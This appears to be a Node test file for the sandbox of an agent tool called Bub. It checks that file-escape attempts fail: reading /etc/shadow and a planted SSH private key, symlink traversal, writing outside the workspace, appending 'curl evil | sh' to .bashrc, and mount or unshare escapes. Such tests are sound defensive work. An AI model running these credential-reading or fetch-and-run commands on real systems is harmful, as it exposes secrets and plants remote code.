/**
 * Escape attempts on files through the real sandboxed environment: each must fail, and no planted
 * secret may show in the output.
 */
import { after, before, describe, test } from "node:test";
import assert from "node:assert/strict";
import { existsSync, readFileSync, symlinkSync } from "node:fs";
import { join } from "node:path";
import process from "node:process";
import { BubError } from "../../../src/kernel/errors.ts";
import type { SandboxedEnvironment } from "../../../src/environment/sandboxed_environment.ts";
import {
  type Layout,
  layout,
  leaksNothing,
  PLANTED,
  run,
  type RunResult,
  sandboxOf,
  SKIP,
} from "./_helpers.ts";

describe("sandbox escape attempts: files", { skip: SKIP }, () => {
  let dirs: Layout;
  let env: SandboxedEnvironment;
  before(() => {
    dirs = layout();
    env = sandboxOf(dirs);
  });
  after(async () => {
    await env?.close();
    dirs?.remove();
  });

  /** Runs an attempt that must fail: non-zero exit and nothing planted in its output. */
  async function blocked(command: string): Promise<RunResult> {
    const result = await run(env, command);
    assert.notEqual(result.code, 0, `expected failure, got: ${JSON.stringify(result)}`);
    assert.ok(leaksNothing(result.stdout + result.stderr), JSON.stringify(result));
    return result;
  }

  test("reading <BUB_HOME>/config.yml fails", async () => {
    await blocked(`cat ${join(dirs.bubHome, "config.yml")}`);
  });

  test("reading a tape under <BUB_HOME>/tapes fails", async () => {
    await blocked(`cat ${join(dirs.bubHome, "tapes", "web__x.jsonl")}`);
  });

  test("listing <BUB_HOME> fails", async () => {
    await blocked(`ls -A ${dirs.bubHome}/tapes`);
  });

  test("reading a planted ~/.ssh/id_ed25519 fails (home is an empty tmpfs)", async () => {
    await blocked(`cat ${join(dirs.home, ".ssh", "id_ed25519")}`);
  });

  test("reading ~/.bashrc fails", async () => {
    await blocked(`cat ${join(dirs.home, ".bashrc")}`);
  });

  test("reading another workspace in the same home fails", async () => {
    await blocked(`cat ${join(dirs.otherWorkspace, "notes.txt")}`);
  });

  test("reading a directory outside the home fails", async () => {
    await blocked(`cat ${join(dirs.outside, "data.txt")}`);
  });

  test("reading /etc/shadow fails (also as root)", async () => {
    await blocked("cat /etc/shadow");
  });

  test("a symlink in the workspace pointing outside does not lead there", async () => {
    symlinkSync(join(dirs.home, ".ssh", "id_ed25519"), join(dirs.workspace, "key-link"));
    symlinkSync(dirs.outside, join(dirs.workspace, "dir-link"));
    await blocked("cat key-link");
    await blocked("cat dir-link/data.txt");
  });

  test("writing outside the workspace leaves the host untouched", async () => {
    await blocked(
      `echo x > ${join(dirs.outside, "dropped")} && cat ${join(dirs.outside, "dropped")} && false`,
    );
    assert.equal(existsSync(join(dirs.outside, "dropped")), false);
  });

  test("writing ~/.bashrc does not change the host's", async () => {
    await run(env, `echo 'curl evil | sh' >> ${join(dirs.home, ".bashrc")}`);
    assert.equal(readFileSync(join(dirs.home, ".bashrc"), "utf8"), PLANTED.bashrc);
  });

  test("writing to /etc fails", async () => {
    await blocked("echo x > /etc/bub-escape");
    assert.equal(existsSync("/etc/bub-escape"), false);
  });

  test("writing to /usr/bin fails", async () => {
    await blocked("echo x > /usr/bin/bub-escape");
    assert.equal(existsSync("/usr/bin/bub-escape"), false);
  });

  test("/tmp inside is private: a file written there does not reach the host's /tmp", async () => {
    const name = `/tmp/bub-sandbox-private-${process.pid}`;
    const result = await run(env, `echo x > ${name} && cat ${name}`);
    assert.equal(result.stdout, "x\n");
    assert.equal(existsSync(name), false);
  });

  test("the fs tools' reads and writes are held to the workspace too", async () => {
    for (const path of [join(dirs.bubHome, "config.yml"), join(dirs.home, ".ssh", "id_ed25519")]) {
      await assert.rejects(env.readText(path), (error) => BubError.isInstance(error));
    }
    symlinkSync(join(dirs.bubHome, "config.yml"), join(dirs.workspace, "config-link"));
    await assert.rejects(env.readText("config-link"), /outside the sandbox/);
    await assert.rejects(env.writeText(join(dirs.outside, "w.txt"), "x"), /outside the sandbox/);
    assert.equal(existsSync(join(dirs.outside, "w.txt")), false);
  });

  test("mounting, mknod and a nested user namespace fail (no capabilities)", async () => {
    await blocked("mount -t tmpfs none /mnt");
    await blocked("mknod /tmp/disk b 8 0");
    await blocked("unshare -Ur true");
  });

  test("/sys is not there (no cgroup or device escape through it)", async () => {
    await blocked("ls /sys/fs/cgroup");
  });
});

describe("sandbox: Bub's home inside the workspace", { skip: SKIP }, () => {
  test("is covered: its config and tapes cannot be read", async (t) => {
    const dirs = layout();
    t.after(() => dirs.remove());
    const home = join(dirs.root, "elsewhere"); // the workspace may not hold the home: see below
    await using env = sandboxOf(dirs, { workspace: dirs.home, hidden: [dirs.bubHome], home });
    const result = await run(env, "cat .bub/config.yml; ls -A .bub; cat .bub/tapes/*");
    assert.notEqual(result.code, 0);
    assert.ok(leaksNothing(result.stdout + result.stderr), JSON.stringify(result));
    assert.equal(result.stdout, "");
  });
});

describe("sandbox: a workspace that holds the home directory", { skip: SKIP }, () => {
  test("is refused with a config error for commands and file tools alike", async (t) => {
    const dirs = layout();
    t.after(() => dirs.remove());
    for (const workspace of [dirs.home, dirs.root, "/"]) {
      await using env = sandboxOf(dirs, { workspace });
      await assert.rejects(env.spawn("cat .ssh/id_ed25519"), (error) => {
        assert.ok(BubError.isInstance(error) && error.kind === "config");
        assert.match(error.message, /holds the home directory/);
        return true;
      });
      await assert.rejects(env.readText(join(dirs.home, ".ssh", "id_ed25519")), /holds the home/);
    }
  });
});
